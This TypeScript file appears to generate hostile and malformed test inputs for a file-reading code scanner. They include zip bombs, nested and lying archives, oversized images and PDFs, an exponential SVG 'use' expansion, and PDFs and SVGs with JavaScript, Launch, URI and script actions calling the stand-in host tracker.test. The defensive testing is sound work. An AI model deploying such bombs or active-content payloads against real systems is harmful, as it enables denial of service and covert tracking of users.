import { deflateRawSync, deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { pngOf, svgOf } from '../../../demo/qr';
import { blankPng } from '../../harness/png';
import { type GeneratedFile, noCode, oneCode, textFor } from './generated-file';
import { vectorCode } from './pdf-files';
import { type PdfPage, writePages } from './pdf-writer';

/** An archive of one file, of which the directory may claim another size than it has. */
function zipOf(name: string, content: Uint8Array, claimed = content.length): Buffer {
  const data = deflateRawSync(content);
  const file = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(claimed, 22);
  local.writeUInt16LE(file.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(claimed, 24);
  central.writeUInt16LE(file.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + file.length, 12);
  end.writeUInt32LE(30 + file.length + data.length, 16);
  return Buffer.concat([local, file, data, central, file, end]);
}

function nestedZip(depth: number): Uint8Array {
  let inner = zipSync({ 'a.txt': Buffer.from('nothing') });
  for (let i = 0; i < depth; i++) inner = zipSync({ [`${i}.zip`]: inner });
  return inner;
}

const withAction = (action: string) => ({ more: `/OpenAction ${action}` });
const code = (name: string) => [{ drawing: vectorCode(textFor(name)) }];
const uses = (depth: number) =>
  `<defs><rect id="u0" width="1" height="1"/>${Array.from({ length: depth }, (_, i) => `<g id="u${i + 1}"><use href="#u${i}"/><use href="#u${i}"/></g>`).join('')}</defs><use href="#u${depth}"/>`;

/** A page with a code over pictures of one colour, which take kilobytes in the file and four bytes a pixel out of it. */
function pageOfPictures(text: string, count: number, side: number): PdfPage {
  const names = Array.from({ length: count }, (_, i) => `P${i}`);
  const picture = {
    value: `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] /Filter /FlateDecode >>`,
    stream: deflateSync(Buffer.alloc(Math.ceil(side / 8) * side)),
  };
  return {
    drawing: `${names.map((name) => `q 400 0 0 400 50 50 cm /${name} Do Q\n`).join('')}${vectorCode(text)}`,
    pictures: Object.fromEntries(names.map((name) => [name, picture])),
  };
}

/** A GIF whose header says one pixel, and whose only frame has another size (GIF89a, 18 and 20). */
function gifOfFrame(side: number): Buffer {
  const file = Buffer.from('47494638396101000100800000000000ffffff2c00000000000000000002024401003b', 'hex');
  file.writeUInt16LE(side, 24);
  file.writeUInt16LE(side, 26);
  return file;
}

/** Files that were made to do harm, and such as are broken: each is read, or ends with a reason. */
export async function hostileFiles(): Promise<GeneratedFile[]> {
  const png = await pngOf(textFor('cut-off.png'));
  const pdf = writePages(code('cut-off.pdf'));
  return [
    noCode('empty.png', new Uint8Array(), 'empty'),
    noCode(
      'random.bin',
      Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) & 255)),
      'unknown-kind',
    ),
    noCode('cut-off.png', png.subarray(0, 60), 'broken'),
    // Without a trailer nobody knows where it begins.
    noCode('cut-off.pdf', pdf.subarray(0, pdf.length - 120), 'broken'),
    noCode('huge.png', blankPng(60_000, 60_000), 'too-large'),
    noCode(
      'claims-to-be-huge.png',
      blankPng(10, 10, { claimed: { width: 100_000, height: 100_000 } }),
      'too-large',
    ),
    noCode('hidden-size.gif', gifOfFrame(20_000), 'too-large'),
    {
      ...oneCode('many-pictures.pdf', writePages([pageOfPictures(textFor('many-pictures.pdf'), 12, 8000)])),
      problems: ['too-much-memory'],
    },
    {
      ...oneCode('huge-picture.pdf', writePages([pageOfPictures(textFor('huge-picture.pdf'), 1, 30_000)])),
      problems: ['too-much-memory'],
    },
    oneCode('large-picture.pdf', writePages([pageOfPictures(textFor('large-picture.pdf'), 1, 5900)])),
    { ...noCode('bomb.zip', zipOf('zeros.bmp', Buffer.alloc(40_000_000))), problems: ['unpacks-too-large'] },
    {
      ...noCode('claims.zip', zipOf('a.png', Buffer.alloc(100), 4_000_000_000)),
      problems: ['unpacks-too-large'],
    },
    noCode('lies.zip', zipOf('a.png', Buffer.alloc(30_000_000), 100)),
    { ...noCode('deep.zip', nestedZip(30)), problems: ['too-deep'] },
    noCode('cut-off.zip', zipSync({ 'a.png': png }).subarray(0, 100), 'broken'),
    oneCode(
      'script.pdf',
      writePages(
        code('script.pdf'),
        withAction("<< /S /JavaScript /JS (app.launchURL\\('http://tracker.test/js'\\)) >>"),
      ),
    ),
    oneCode(
      'launch.pdf',
      writePages(code('launch.pdf'), withAction('<< /S /Launch /F (http://tracker.test/launch.exe) >>')),
    ),
    oneCode(
      'opens-address.pdf',
      writePages(code('opens-address.pdf'), withAction('<< /S /URI /URI (http://tracker.test/open) >>')),
    ),
    oneCode(
      'other-document.pdf',
      writePages(
        code('other-document.pdf'),
        withAction('<< /S /GoToR /F (http://tracker.test/other.pdf) /D [0 /Fit] >>'),
      ),
    ),
    oneCode(
      'picture-elsewhere.pdf',
      writePages([
        {
          drawing: `${vectorCode(textFor('picture-elsewhere.pdf'))} q 100 0 0 100 0 0 cm /P Do Q`,
          pictures: {
            P: {
              value:
                '<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (http://tracker.test/picture) >> >>',
              stream: new Uint8Array(),
            },
          },
        },
      ]),
    ),
    oneCode(
      'huge-page.pdf',
      writePages([
        {
          drawing: vectorCode(textFor('huge-page.pdf'), { x: 3000, y: 25_000, module: 400 }),
          size: [30_000, 30_000],
        },
      ]),
    ),
    noCode('no-size.pdf', writePages([{ drawing: '', size: [0, 0] }])),
    {
      ...noCode(
        'endless-drawing.pdf',
        writePages([{ drawing: Buffer.alloc(150_000_000, 'q 1 0 0 1 0 0 cm 0 0 9 9 re f Q\n') }]),
        'took-too-long',
      ),
      isSlow: true,
    },
    { ...noCode('endless.svg', Buffer.from(svgOf('x').replace('</svg>', `${uses(24)}</svg>`)), 'too-large') },
    {
      // A drawing that takes for ever ends no file beside it.
      ...oneCode(
        'drawing-beside.zip',
        zipSync({
          'endless.svg': Buffer.from(svgOf('x').replace('</svg>', `${uses(24)}</svg>`)),
          'code.png': await pngOf(textFor('drawing-beside.zip')),
        }),
        'drawing-beside.zip/code.png',
      ),
      problems: ['too-large'],
    },
    oneCode(
      'script.svg',
      Buffer.from(
        svgOf(textFor('script.svg')).replace(
          '</svg>',
          '<script>fetch("http://tracker.test/svg")</script></svg>',
        ),
      ),
    ),
    noCode(
      'loads.svg',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><image href="http://tracker.test/in-svg.png" width="300" height="300"/></svg>',
      ),
      'undrawn',
    ),
    noCode(
      'old.doc',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
      'old-office',
    ),
    noCode(
      'broken.eml',
      Buffer.from(
        'From: a@b.example\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n',
      ),
    ),
  ];
}
